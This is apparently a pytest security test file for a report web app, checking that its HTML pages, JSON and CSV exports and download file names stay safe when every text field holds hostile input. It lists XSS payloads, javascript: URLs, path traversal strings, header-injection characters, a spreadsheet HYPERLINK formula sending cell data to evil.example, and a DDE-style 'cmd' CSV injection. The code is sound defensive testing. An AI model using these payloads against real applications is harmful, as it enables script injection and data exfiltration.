"""Whatever stands in the bucket, no view of the report is anything but that view.

Every text of every view is replaced by an attack: names of jobs, owners and tags, labels of VMs, what
heartbeats and the audit say, what was asked for. The page must have the elements, attributes and links that
it has of harmless texts, and the JSON and the CSV must be whole.
"""

import csv
import json
import unicodedata
from collections import Counter
from enum import Enum
from functools import cache
from html.parser import HTMLParser
from io import StringIO
from urllib.parse import urljoin, urlsplit

import msgspec
import pytest
from msgspec.structs import replace

from spotwarden.report import views as pages
from spotwarden.report.export import as_csv, as_json, file_name
from spotwarden.report.model.experiments import Experiments
from spotwarden.report.model.fleet import FleetReport
from spotwarden.report.model.job import Comparison, JobReport
from spotwarden.report.model.trust import AuditQuery, TrustReport
from tests.pages import report_made_up as made_up
from tests.report.test_csv import runs

HERE = "https://report.example.com/app/"
MARKUP = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' autofocus onfocus='alert(1)",
    "x onmouseover=alert(1) style=position:fixed",
    "</title></textarea></style></script></svg></table>",
    "--><!--",
    "]]><![CDATA[",
    "&lt;script&gt;&#60;b&#62;&Tab;",
    "{{ 7 * 7 }}{% raw %}{# x #}",
    '<svg onload=alert(1)><use href="//evil.example"/></svg>',
    '"}]</script><script>alert(1)//',
)
ATTACKS = {
    "markup": " ".join(MARKUP),
    "script": "javascript:alert(1)",
    "data": "data:text/html,<script>alert(1)</script>",
    "host": "//evil.example/x",
    "link": "https://evil.example/x",
    "bucket": "gs://../../../evil?x=1#y",
    "folder": "../../../../x?a=1&b=2#c%2e%2e%2f%00%0d%0a",
    "unseen": "\r\nSet-Cookie: a=b\r\n\r\na\x00b\x1b[31mc\x08d\x7fe\x85f\u2028\u2029\ufffe\U0001ffff",
    "direction": "abc\u202egnp.exe\u2066\u2069\u200f",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"here")',
    "separated": "x;=cmd|' /C calc'!A0;y",
    "long": "w" * 5000,
    "prototype": "__proto__",
    "blank": " ",
}
"""What is tried, by its name."""
QUERY = AuditQuery(about="a", text="b", rule="c", function="d", action="e")
VIEWS = {
    "experiments": made_up.table(6),
    "job": made_up.job_report(),
    "compare": Comparison(jobs=(made_up.job_report(7), made_up.job_report(8)), missing=("gone",)),
    "fleet": made_up.fleet_view(),
    "trust": made_up.trust_view(QUERY, 3, answer="it ended", by="d1"),
}
KEPT = {"nan", "inf", "-inf"}
OURS = {"timezone", "prices"}
"""Fields that no user writes: the policy's time zone, and what the price table says of itself."""


def spoilt(value, attack, name=""):
    """The same with every text in it replaced, the keys of mappings as well; days, kinds and numbers stay."""
    if isinstance(value, str):
        return value if value in KEPT or name in OURS or value[:4] == "2026" else f"{attack}{value and 'x'}"
    if isinstance(value, msgspec.Struct):
        fields = {one: spoilt(getattr(value, one), attack, one) for one in value.__struct_fields__}
        return type(value)(**fields)
    if isinstance(value, tuple):
        return tuple(spoilt(one, attack) for one in value)
    if isinstance(value, dict):
        return {
            key if isinstance(key, Enum) else f"{spoilt(key, attack)}{number}": spoilt(one, attack)
            for number, (key, one) in enumerate(value.items())
        }
    return value


class Skeleton(HTMLParser):
    """What a page is made of, without its words."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.elements, self.links, self.words, self.blocks, self.values = Counter(), [], [], [], []
        self._within = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        """Count the element with the names of its attributes."""
        self.elements[tag, tuple(sorted(name for name, _ in attrs))] += 1
        self.links += [
            said or ""
            for name, said in attrs
            if name in {"href", "src", "action", "formaction", "xlink:href"}
        ]
        self.values += [(tag, name, said or "") for name, said in attrs]
        self._within = tag

    def handle_endtag(self, _tag):
        """Nothing more within."""
        self._within = ""

    def handle_data(self, data):
        """Words, or the content of a block of data."""
        (self.blocks if self._within == "script" else self.words).append(data)

    def handle_comment(self, data):
        """There is none."""
        raise AssertionError(data)


def page(view, *, static=False):
    """The page of a view."""
    frame = pages.PageFrame(updated=made_up.NOW, zone="UTC", project="p", bucket="b", static=static)
    match view:
        case Experiments():
            asked = {"q": view.rows[0].owner[:50], "owner": view.rows[0].owner[:50]} if not static else {}
            html = pages.experiments(view, pages.TableQuery.read(asked), frame)
        case JobReport():
            html = pages.job(view, frame)
        case Comparison():
            html = pages.compare(view, frame)
        case FleetReport():
            html = pages.fleet(view, frame, "gpu")
        case TrustReport():
            html = pages.trust(view, frame)
    return str(html)


@pytest.mark.parametrize("view", [*VIEWS])
@pytest.mark.parametrize("attack", [*ATTACKS])
def test_a_page_is_made_of_what_it_is_made_of(view, attack):
    """Its elements and attributes are those of harmless texts; no character in it is unseen."""
    holds(view, ATTACKS[attack], static=False)


@pytest.mark.parametrize("view", [*VIEWS])
@pytest.mark.parametrize("attack", ["markup", "host", "unseen"])
def test_a_page_of_the_copy_without_a_server_is_too(view, attack):
    """Its links lead to files beside it."""
    holds(view, ATTACKS[attack], static=True)


def holds(view, attack, *, static):
    """Hold the page of this attack against that of harmless texts."""
    html = page(spoilt(VIEWS[view], attack), static=static)
    found, usual = Skeleton(html), harmless(view, attack[:5] == "gs://", static=static)
    assert set(found.elements) <= set(usual.elements)
    assert not [said for _, name, said in found.values if name.startswith("on") or name == "style"]
    below = "jobs/x" if view == "job" else ""
    assert [link for link in found.links if not leads_home(link, below)] == []
    unseen = {"Cc", "Cs", "Cn", "Co", "Zl", "Zp"}
    assert {char for char in html if unicodedata.category(char) in unseen} == {"\n"}
    assert not {*"\u202e\u2066\u2069\u200f"} & set(html)
    assert all(json.loads(block) is not None for block in found.blocks if block)


@cache
def harmless(view, linked, *, static):
    """What the page is made of where texts are words, or places in the bucket."""
    return Skeleton(page(spoilt(VIEWS[view], "gs://b/x" if linked else "harmless"), static=static))


def leads_home(link, below=""):
    """Whether it stays below the report, opens the bucket in the console, or is the icon of no picture."""
    goal = urljoin(HERE + below, link)
    console = urlsplit(goal)[:2] == ("https", "console.cloud.google.com")
    return goal.startswith(HERE) or console or link == "data:,"


@pytest.mark.parametrize("view", [*VIEWS])
@pytest.mark.parametrize("attack", [*ATTACKS])
def test_json_and_csv_of_an_attack_are_whole(view, attack):
    """JSON that any reader takes, a table whose rows have its columns, no formula, no line too many."""
    hostile = spoilt(VIEWS[view], ATTACKS[attack])
    assert json.loads(as_json(hostile).decode())["view"] == view
    data = as_csv(hostile).decode()
    header, *rows = csv.reader(StringIO(data, newline=""), strict=True)
    assert {len(row) for row in rows} <= {len(header)}
    assert data.count("\n") == len(rows) + 1
    texts = [cell for row in (header, *rows) for cell in row if not number(cell)]
    assert not [cell for cell in texts if runs(cell, ",") or runs(cell, ";")]
    assert not {char for char in data if unicodedata.category(char) in {"Cc", "Cs"}} - {"\r", "\n"}


def number(cell):
    """Whether it is a number, minus signs and the three words included."""
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("attack", [*ATTACKS])
def test_a_name_in_a_header_is_messages_digits_and_hyphens(attack):
    """Whatever a job is called: the header of a download has one line and one pair of quotation marks."""
    view = made_up.job_report(experiment=replace(made_up.experiment(1), job=ATTACKS[attack]))
    name = file_name(view, "csv")
    assert set(name) <= set("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-.")
    assert len(name) < 120


@pytest.mark.parametrize("attack", [*ATTACKS])
def test_a_page_about_trouble_says_what_was_asked_and_no_more(attack):
    """It repeats what a stranger wrote into an address."""
    frame = pages.PageFrame()
    usual = Skeleton(str(pages.trouble("Nothing is here", "there is no job x", frame)))
    found = Skeleton(str(pages.trouble("Nothing is here", f"there is no job {ATTACKS[attack]}", frame)))
    assert found.elements == usual.elements
    assert found.links == usual.links


def test_the_attacks_would_be_found():
    """A page that put texts in as they are would fail: the test itself can."""
    usual = set(Skeleton("<p>harmless</p>").elements)
    parts = [attack for attack in MARKUP if "<" in attack and "<!" not in attack and "</title" not in attack]
    assert len(parts) == 4
    for part in parts:
        assert set(Skeleton(f"<p>{part}</p>").elements) - usual, part
    assert not leads_home("javascript:alert(1)")
    assert not leads_home("//evil.example/x")
    assert not leads_home("../../x")
